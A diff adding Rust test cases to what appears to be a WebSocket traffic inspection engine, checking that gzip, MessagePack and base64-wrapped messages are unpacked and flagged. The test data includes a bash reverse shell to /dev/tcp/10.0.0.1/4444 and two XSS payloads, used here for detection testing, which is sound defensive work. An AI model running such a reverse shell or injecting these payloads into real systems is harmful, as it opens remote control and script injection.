@@ -733,6 +733,23 @@ fn binary_messages_the_application_compressed_are_inflated_and_scanned() {
     assert_eq!(h.tag_of_binary(&gzip(&packed)), Some(Tag::Sqli));
     let tick = br#"{"ch":"market.btcusdt.kline.1min","tick":{"open":42000.5,"close":42010}}"#;
     assert_eq!(h.tag_of_binary(&gzip(tick)), None);
+    // gzip of gzip, engine.io v3's marker before it, gzip inside a MessagePack `bin` and in
+    // base64 inside JSON.
+    let shell = b"; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
+    assert_eq!(
+        h.tag_of_binary(&gzip(&gzip(shell))),
+        Some(Tag::CmdInjection)
+    );
+    let marked = [&[4][..], &gzip(shell)].concat();
+    assert_eq!(h.tag_of_binary(&marked), Some(Tag::CmdInjection));
+    let bin = msgpack(&rmpv::Value::Map(vec![(
+        "m".into(),
+        rmpv::Value::Binary(gzip(b"<img src=x onerror=alert(1)>")),
+    )]));
+    assert_eq!(h.tag_of_binary(&bin), Some(Tag::Xss));
+    use base64::Engine as _;
+    let encoded = base64::engine::general_purpose::STANDARD.encode(gzip(b"<svg onload=alert(1)>"));
+    assert_eq!(h.tag_of(&format!(r#"{{"d":"{encoded}"}}"#)), Some(Tag::Xss));
     // Past the message size limit once inflated: 1009, as for permessage-deflate.
     let h = Harness::new(InspectionPolicy {
         inspect_binary: true,
